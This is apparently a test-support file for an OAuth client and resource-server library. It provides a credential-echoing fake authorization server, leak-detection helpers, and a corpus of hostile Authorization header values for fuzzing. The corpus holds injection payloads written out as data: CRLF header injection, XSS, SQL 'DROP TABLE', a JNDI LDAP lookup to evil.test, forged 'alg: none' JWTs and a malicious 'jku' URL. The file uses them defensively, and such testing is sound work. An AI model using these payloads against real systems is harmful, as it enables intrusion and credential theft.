/**
 * Shared by the adversarial suites: an authorization server that echoes back every credential it receives,
 * in the forms a careless or hostile one would, and a leak scan that looks for every encoding of a secret.
 */
import { type IncomingMessage, type ServerResponse, validateHeaderValue } from 'node:http';
import { inspect } from 'node:util';
import { expect } from 'vitest';
import type { TokenwardenError } from '../../src/errors.js';
import { type FaultServer, json, startFaultServer } from '../support/fault-server.js';
import { basicUserPass } from '../../src/sources/client-secret-basic.js';
import { clientCredentials } from '../../src/sources/client-credentials.js';
import { jwtBearer } from '../../src/sources/jwt-bearer.js';
import { refreshToken } from '../../src/sources/refresh-token.js';
import type { GrantSource } from '../../src/sources/client.js';
import { tokenExchange } from '../../src/sources/token-exchange.js';

/** Characters that every encoding treats differently: space, quote, plus, slash, equals, ampersand, percent, non-ASCII. */
export const CLIENT_SECRET = 'cs-"se cr3t"+/=&~!%41-é-0d9c8b7a';
export const CLIENT_ID = 'svc client';
export const REFRESH_TOKEN = 'rt-R3fr3sh+token/with=chars-5e4d3c';
export const SUBJECT_TOKEN = 'subject-token-9f8e7d6c5b4a3f2e';
export const ACTOR_TOKEN = 'actor-token-1a2b3c4d5e6f7a8b';
export const ASSERTION = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJyb2JvdCJ9.c2lnbmF0dXJlLW9mLXRoZS1hc3NlcnRpb24';

export type EchoMode =
  | 'description'
  | 'description-decoded'
  | 'description-lowercase-percent'
  | 'description-json'
  | 'error-field'
  | 'www-authenticate'
  | 'content-type'
  | 'field-names'
  | 'token-type';

export const ECHO_MODES: EchoMode[] = [
  'description',
  'description-decoded',
  'description-lowercase-percent',
  'description-json',
  'error-field',
  'www-authenticate',
  'content-type',
  'field-names',
  'token-type',
];

const formEncode = (v: string): string => new URLSearchParams([['', v]]).toString().slice(1);
const b64 = (v: string): string => Buffer.from(v, 'utf8').toString('base64');

/** What the server received, in every form it can give it back. */
function received(req: IncomingMessage, body: string): string[] {
  const out = [body];
  const authorization = req.headers.authorization ?? '';
  out.push(authorization);
  const basic = /^basic\s+(.+)$/i.exec(authorization)?.[1];
  if (basic !== undefined) {
    const decoded = Buffer.from(basic, 'base64').toString('utf8');
    out.push(decoded, decodeURIComponent(decoded.replace(/\+/g, ' ')));
  }
  for (const [, value] of new URLSearchParams(body)) out.push(value, b64(value));
  return out;
}

/** The echoing answer of `mode`. */
export function echo(mode: EchoMode, req: IncomingMessage, res: ServerResponse, body: string): void {
  const all = received(req, body);
  const text = `you sent ${all.join(' | ')}`;
  switch (mode) {
    case 'description':
      return json(res, 400, {
        error: 'invalid_client',
        error_description: `you sent ${body} with ${req.headers.authorization}`,
      });
    case 'description-decoded':
      return json(res, 400, { error: 'invalid_grant', error_description: text });
    case 'description-lowercase-percent':
      return json(res, 400, {
        error: 'invalid_request',
        error_description: all
          .map((v) => encodeURIComponent(v).replace(/%[0-9A-F]{2}/g, (m) => m.toLowerCase()))
          .join(' '),
      });
    case 'description-json':
      return json(res, 400, { error: 'invalid_request', error_description: JSON.stringify(all) });
    case 'error-field':
      return json(res, 400, { error: `invalid_client ${all.slice(2).join(' ')}` });
    case 'www-authenticate': {
      // A header carries bytes: the UTF-8 of the text, which fetch reads back as Latin-1.
      const quoted = Buffer.from(text.replace(/[\\"]/g, '\\$&'), 'utf8').toString('latin1');
      res.writeHead(401, {
        'www-authenticate': `Basic realm="${quoted}", error="invalid_client", error_description="${quoted}"`,
        'content-type': 'application/json',
      });
      res.end(JSON.stringify({ error: 'invalid_client' }));
      return;
    }
    case 'content-type':
      res.writeHead(502, { 'content-type': `text/html; echo="${all.map(b64).join(',')}"` });
      res.end(`<html>${text}</html>`);
      return;
    case 'field-names':
      return json(res, 200, Object.fromEntries([...all.map((v) => [v, 1]), ['access_token', 42]]));
    case 'token-type':
      return json(res, 200, { access_token: 'fine-token', token_type: all.slice(1).join(' '), expires_in: 60 });
  }
}

/** An echoing authorization server: `/token` and `/revoke` answer with `mode()`; `/.well-known/…` with metadata. */
export async function startEchoServer(mode: () => EchoMode): Promise<FaultServer> {
  const server: FaultServer = await startFaultServer((req, res, body) => {
    if (req.url?.startsWith('/.well-known/')) {
      return json(res, 200, { issuer: server.url, token_endpoint: `${server.url}/token` });
    }
    return echo(mode(), req, res, body);
  });
  return server;
}

/**
 * Each way the client sends a credential to the server's `/token` — a grant × a client authentication method —
 * with the fixed credentials above. Both arguments are read when a source is made (servers start in
 * `beforeAll`, after the tests are listed): the server, and a PKCS#8 PEM for `private_key_jwt`.
 */
export function credentialSenders(
  server: () => FaultServer,
  privateKey: () => string,
): Record<string, () => GrantSource> {
  const common = () => ({
    tokenEndpoint: `${server().url}/token`,
    clientId: CLIENT_ID,
    allowInsecureRequests: true,
    timeout: '2s' as const,
  });
  return {
    'client_credentials, client_secret_basic': () => clientCredentials({ ...common(), clientSecret: CLIENT_SECRET }),
    'client_credentials, client_secret_post': () =>
      clientCredentials({ ...common(), clientSecret: CLIENT_SECRET, clientAuth: 'client_secret_post' }),
    'client_credentials, client_secret_jwt': () =>
      clientCredentials({ ...common(), clientSecret: CLIENT_SECRET, clientAuth: 'client_secret_jwt' }),
    'client_credentials, private_key_jwt': () => clientCredentials({ ...common(), privateKey: privateKey() }),
    'refresh_token, client_secret_basic': () =>
      refreshToken({ ...common(), clientSecret: CLIENT_SECRET, refreshToken: REFRESH_TOKEN }),
    'token exchange with an actor': () =>
      tokenExchange({ ...common(), clientSecret: CLIENT_SECRET, subjectToken: SUBJECT_TOKEN, actorToken: ACTOR_TOKEN }),
    'jwt bearer, public client': () => jwtBearer({ ...common(), clientAuth: 'none', assertion: ASSERTION }),
  };
}

/** Every credential sent to `server` so far: the fixed ones, the assertions the client signed, Authorization headers. */
export function sentCredentials(server: FaultServer): string[] {
  const out = [CLIENT_SECRET, REFRESH_TOKEN, SUBJECT_TOKEN, ACTOR_TOKEN, ASSERTION];
  for (const r of server.requests) {
    const params = new URLSearchParams(r.body);
    for (const name of [
      'client_assertion',
      'client_secret',
      'refresh_token',
      'subject_token',
      'actor_token',
      'assertion',
      'token',
    ]) {
      out.push(...params.getAll(name));
    }
    const authorization = r.headers.authorization;
    if (authorization !== undefined) out.push(authorization.replace(/^\S+\s+/, ''));
  }
  return [...new Set(out)];
}

/** Every form of `secret` a leak could take, including a Basic credential with `clientId`, and a chunk of it. */
export function leakForms(secret: string, clientId = CLIENT_ID): string[] {
  const lowerPercent = (v: string): string => v.replace(/%[0-9A-F]{2}/g, (m) => m.toLowerCase());
  const middle = secret.slice(Math.floor(secret.length / 2) - 5, Math.floor(secret.length / 2) + 5);
  return [
    secret,
    middle,
    formEncode(secret),
    encodeURIComponent(secret),
    lowerPercent(encodeURIComponent(secret)),
    JSON.stringify(secret).slice(1, -1),
    b64(secret),
    Buffer.from(secret, 'utf8').toString('base64url'),
    b64(`${clientId}:${secret}`),
    b64(`${formEncode(clientId)}:${formEncode(secret)}`),
    b64(basicUserPass(clientId, secret)), // the Basic credential as client_secret_basic sends it
  ];
}

/** The forms of `secrets` found in `text` (empty: no leak). */
export function leaksIn(text: string, secrets: string[]): string[] {
  return secrets.flatMap((s) => leakForms(s).filter((form) => text.includes(form)));
}

/**
 * Every way an error can be shown — its string, message, stack, JSON, OAuth fields, and inspections of it and its
 * cause with hidden properties — joined: what a test searches for a secret that must not be there.
 */
export function renderings(err: unknown): string {
  const e = err as TokenwardenError;
  return [
    String(e),
    e.message,
    e.stack ?? '',
    JSON.stringify(e),
    String(e.error),
    String(e.error_description),
    inspect(e, { depth: 10, showHidden: true }),
    inspect(e.cause, { depth: 10, showHidden: true }),
  ].join('\n');
}

// ---------------------------------------------------------------------------------------------------------
// A corpus of hostile Authorization header values and the checks every answer to one must pass (RFC 6750
// §2.1, §3), shared by hostile-requests.test.ts and adapters-hostile.test.ts.
// ---------------------------------------------------------------------------------------------------------

/** Deterministic, so that a failing value can be found again (xorshift32). */
function prng(seed: number): () => number {
  let x = seed;
  return () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return (x >>> 0) / 0x1_0000_0000;
  };
}

export interface Hostile {
  /** What the corpus entry is, for the failure message. */
  name: string;
  /** The Authorization header value(s): more than one is several headers. */
  values: string[];
  /** A part of the presented token that must never come back (at least 12 characters, random). */
  secret: string;
}

const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/** A base64url JWT segment of `value` (a string as it is, anything else as JSON). */
function segment(value: unknown): string {
  return Buffer.from(typeof value === 'string' ? value : JSON.stringify(value), 'utf8').toString('base64url');
}

/**
 * A few hundred hostile `Authorization` values (random bytes, unicode, control characters, huge lengths,
 * near-valid JWTs made from `realToken` and `forged`, scheme and separator variants, challenge injections).
 * Deterministic: a failing entry is found again by its name.
 */
export function corpus(realToken: string, forged: string): Hostile[] {
  const random = prng(0x6750);
  const int = (n: number) => Math.floor(random() * n);
  const b64 = (n: number) => Array.from({ length: n }, () => B64URL[int(64)]).join('');
  const bytes = (n: number) => Array.from({ length: n }, () => String.fromCharCode(int(256))).join('');
  const unicode = (n: number) =>
    Array.from({ length: n }, () => {
      const pick = int(6);
      if (pick === 0) return String.fromCharCode(0xd800 + int(0x800)); // a lone surrogate
      if (pick === 1) return String.fromCodePoint(0x1f300 + int(0x300)); // emoji
      if (pick === 2) return ['\u200b', '\u202e', '\ufeff', '\u2028', '\u00a0', '\u3000'][int(6)] as string;
      if (pick === 3) return String.fromCharCode(0x80 + int(0x780));
      return String.fromCharCode(0x4e00 + int(0x5000));
    }).join('');
  const out: Hostile[] = [];
  const add = (name: string, make: (secret: string) => string | string[], secret = b64(16)) => {
    const made = make(secret);
    out.push({ name, values: Array.isArray(made) ? made : [made], secret });
  };
  // Random bytes and unicode, as the token and as the whole value.
  for (let i = 0; i < 60; i++) {
    const secret = b64(16) + bytes(6 + int(60)); // a plain prefix: an escaped echo of it is still found
    add(`random bytes ${i}`, (s) => (i % 3 === 0 ? s : `Bearer ${s}`), secret);
  }
  for (let i = 0; i < 40; i++) {
    const secret = b64(16) + unicode(4 + int(30));
    add(`unicode ${i}`, (s) => (i % 4 === 0 ? `${unicode(3)} ${s}` : `Bearer ${s}`), secret);
  }
  // Control characters at the start, inside and at the end of the token, and between scheme and token.
  const controls = ['\u0000', '\t', '\n', '\r', '\r\n', '\u000b', '\u000c', '\u001b', '\u007f', '\u0085'];
  for (const c of controls) {
    const code = c.charCodeAt(0).toString(16);
    add(`control ${code} inside`, (s) => `Bearer ${s.slice(0, 8)}${c}${s.slice(8)}`);
    add(`control ${code} before`, (s) => `Bearer ${c}${s}`);
    add(`control ${code} after`, (s) => `Bearer ${s}${c}`);
    add(`control ${code} as separator`, (s) => `Bearer${c}${s}`);
    add(`control ${code} injected header`, (s) => `Bearer ${s}${c}Set-Cookie: session=${s}`);
  }
  // Lengths around and far past maxTokenLength (16 384).
  for (const n of [16_383, 16_384, 16_385, 16_448, 16_449, 65_536, 1024 * 1024]) {
    add(`length ${n}`, (s) => `Bearer ${s}${'A'.repeat(Math.max(0, n - s.length))}`);
    add(`length ${n}, raw`, (s) => `${s}${b64(8)}.${'B'.repeat(Math.max(0, n - s.length))}`);
  }
  // Near-valid JWTs: the real one changed a little, and shapes a parser might choke on.
  const [h, p, sig] = realToken.split('.') as [string, string, string];
  const [fh, fp, fs] = forged.split('.') as [string, string, string];
  const jwtShapes: ((s: string) => string)[] = [
    (s) => `${h}.${p}.${s}`,
    (s) => `${h}.${s}.${sig}`,
    (s) => `${s}.${p}.${sig}`,
    (s) => `${h}.${p}.${sig}${s}`,
    (s) => `${h}.${p}.${sig}.${s}`,
    (s) => `${h}.${p}${s}`,
    (s) => `${h}..${s}`,
    (s) => `..${s}`,
    (s) => `${s}..`,
    (s) => `${h}.${p}.${sig}=${s}`,
    (s) => `${h}=.${p}.${s}`,
    (s) => `${h}.${p}.${s}==`,
    (s) => `${h.replace(/-/g, '+').replace(/_/g, '/')}.${p}.${s}`,
    (s) => `${fh}.${fp}.${s}`,
    (s) => `${fh}.${segment({ sub: s, scope: 'admin' })}.${fs}`,
    (s) => `${segment({ alg: 'none', kid: s })}.${p}.`,
    (s) => `${segment({ alg: 'RS256', kid: s })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'RS256', kid: '../'.repeat(50) + s })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'HS256', kid: s })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'RS256', crit: [s], [s]: true })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'RS256', typ: s })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'RS256', jku: `https://evil.test/${s}` })}.${p}.${sig}`,
    (s) => `${segment(`{"alg":"RS256","kid":"${s}"`)}.${p}.${sig}`,
    (s) => `${segment('['.repeat(5000))}.${s}.${sig}`,
    (s) => `${segment({ alg: 'RS256' })}.${segment('{"exp":1e400,"sub":"' + s + '"}')}.${sig}`,
    (s) => `${h}.${p}.${sig}`.replace(sig.slice(0, 16), s),
  ];
  for (const [i, shape] of jwtShapes.entries()) {
    add(`near-valid JWT ${i}`, (s) => `Bearer ${shape(s)}`);
    add(`near-valid JWT ${i}, raw`, (s) => shape(s));
    add(`near-valid JWT ${i}, lower case scheme`, (s) => `bearer ${shape(s)}`);
  }
  for (let i = 0; i < 30; i++) {
    // One character of the real token replaced (the secret rides along at the end, where nothing parses it).
    const at = int(realToken.length);
    const replacement = [' ', '"', '\\', ',', '=', '.', '\t', '%', '$', 'é'][int(10)] as string;
    add(
      `real token, character ${at} replaced`,
      (s) => `Bearer ${realToken.slice(0, at)}${replacement}${realToken.slice(at + 1)}${s}`,
    );
  }
  // Schemes and separators.
  const schemes: ((s: string) => string | string[])[] = [
    (s) => `BEARER ${s}`,
    (s) => `bEaReR ${s}`,
    (s) => `Bearer     ${s}`,
    (s) => `Bearer ${s}    `,
    (s) => `   Bearer ${s}`,
    (s) => `Bearer\t${s}`,
    (s) => `Bearer \t ${s}`,
    (s) => `Bearer,${s}`,
    (s) => `Bearer=${s}`,
    (s) => `Bearer:${s}`,
    (s) => `Bearer${s}`,
    (s) => `Bearer ${s} ${s}`,
    (s) => `Bearer ${s}, Bearer ${s}`,
    (s) => `Bearer ${s},`,
    (s) => `Bearer token="${s}"`,
    (s) => `Bearer realm="x", token=${s}`,
    (s) => `Basic ${s}`,
    (s) => `DPoP ${s}`,
    (s) => `Digest username="${s}"`,
    (s) => `Bearer ${s}=======`,
    (s) => `Bearer =${s}`,
    (s) => `Bearer ${s}%20`,
    (s) => `Bearer ${encodeURIComponent(`${s}"`)}`,
    (s) => [`Bearer ${s}`, `Bearer ${s}`],
    (s) => [`Bearer ${s}`, `Basic ${s}`],
    (s) => [`Bearer ${s}`, ''],
    (s) => ['', `Bearer ${s}`],
    (s) => [`Bearer ${realToken}`, `Bearer ${s}`],
    (s) => [`Bearer ${s}`, `Bearer ${s}`, `Bearer ${s}`, `Bearer ${s}`],
  ];
  for (const [i, make] of schemes.entries()) add(`scheme or separator ${i}`, make);
  // Attempts to write into the challenge: quotes, backslashes, parameters, header breaks.
  const injections: ((s: string) => string)[] = [
    (s) => `Bearer ${s}", error="insufficient_scope`,
    (s) => `Bearer ${s}\\", realm="evil`,
    (s) => `Bearer "${s}"`,
    (s) => `Bearer ${s}\\`,
    (s) => `Bearer ${'\\'.repeat(100)}${s}`,
    (s) => `Bearer ${'"'.repeat(100)}${s}`,
    (s) => `Bearer ${s}\r\nWWW-Authenticate: Basic realm="${s}"`,
    (s) => `Bearer ${s}\r\n\r\n<html>${s}</html>`,
    (s) => `Bearer ${s}<script>alert(1)</script>`,
    (s) => `Bearer ${s}'; DROP TABLE tokens; --`,
    (s) => `Bearer ${s}\${jndi:ldap://evil.test/a}`,
    (s) => `Bearer ${s}{{7*7}}`,
    (s) => `Bearer __proto__${s}`,
    (s) => `Bearer constructor.prototype.${s}`,
    (s) => `Bearer ${s}\u0000${realToken}`,
    (s) => `Bearer ${realToken}\u0000${s}`,
  ];
  for (const [i, make] of injections.entries()) add(`injection ${i}`, make);
  return out;
}

/** RFC 6750 §3 / RFC 7235 §2.1: `scheme param="value"(, param="value")*`, challenges separated by ", ". */
const CHALLENGE_VALUE = /^[\x20\x21\x23-\x5b\x5d-\x7e]*$/; // RFC 6750's characters for error_description, scope, error
const ERRORS: Record<number, (string | undefined)[]> = {
  400: ['invalid_request'],
  401: [undefined, 'invalid_token', 'invalid_dpop_proof', 'use_dpop_nonce'],
  403: ['insufficient_scope'],
};

function checkChallenge(header: string, status: number, context: string): void {
  expect(header, context).not.toMatch(/[\r\n\u0000]/); // eslint-disable-line no-control-regex
  const challenges: { scheme: string; params: Map<string, string> }[] = [];
  let rest = header;
  for (;;) {
    const scheme = /^(Bearer|DPoP)(?= |$)/.exec(rest);
    expect(scheme, `${context}: a challenge starts with its scheme: ${header}`).not.toBeNull();
    const current = { scheme: scheme![1]!, params: new Map<string, string>() };
    challenges.push(current);
    rest = rest.slice(scheme![0].length);
    if (rest === '') break;
    rest = rest.replace(/^ /, '');
    for (;;) {
      const param = /^([a-z_]+)="([^"\\]*)"/.exec(rest);
      expect(param, `${context}: auth-param with a quoted value: ${header}`).not.toBeNull();
      expect(current.params.has(param![1]!), `${context}: ${param![1]} twice`).toBe(false);
      current.params.set(param![1]!, param![2]!);
      rest = rest.slice(param![0].length);
      if (!rest.startsWith(', ')) break;
      rest = rest.slice(2);
      if (/^(Bearer|DPoP)(?= |$)/.test(rest)) break; // the next challenge
    }
    if (rest === '') break;
  }
  for (const { params } of challenges) {
    expect(params.get('realm'), context).toBe('api');
    for (const name of ['error', 'error_description', 'scope']) {
      const value = params.get(name);
      if (value !== undefined) expect(value, `${context}: ${name}`).toMatch(CHALLENGE_VALUE);
    }
  }
  const [first] = challenges;
  expect(ERRORS[status], `${context}: status ${status}`).toContain(first!.params.get('error'));
  if (status !== 401) expect(first!.params.get('error_description'), context).toBeDefined();
}

export interface Answer {
  status: number;
  headers: Record<string, string>;
  body: string;
}

export function checkAnswer(answer: Answer, entry: Hostile, where: string): void {
  const context = `${where}, ${entry.name}`;
  expect([400, 401, 403, 503], `${context}: status`).toContain(answer.status);
  if (answer.status === 503) expect(answer.headers['retry-after'], context).toMatch(/^\d+$/);
  else checkChallenge(answer.headers['www-authenticate'] ?? '', answer.status, context);
  const text = `${JSON.stringify(answer.headers)}\n${answer.body}`;
  const { secret } = entry;
  expect(text.includes(secret), `${context}: the token came back`).toBe(false);
  for (let i = 0; i + 12 <= secret.length; i += 4) {
    expect(text.includes(secret.slice(i, i + 12)), `${context}: part of the token came back`).toBe(false);
  }
}

/**
 * Whether an HTTP client can put `values` on the wire: Node refuses CR, LF, NUL and non-latin1 in a header
 * value, and past its 16 KiB header limit Node itself answers 431 before any middleware.
 */
export function sendable(values: string[]): boolean {
  return values.every((v) => {
    try {
      validateHeaderValue('authorization', v);
      return [...v].every((c) => c.charCodeAt(0) < 256) && v.length < 15_000;
    } catch {
      return false;
    }
  });
}
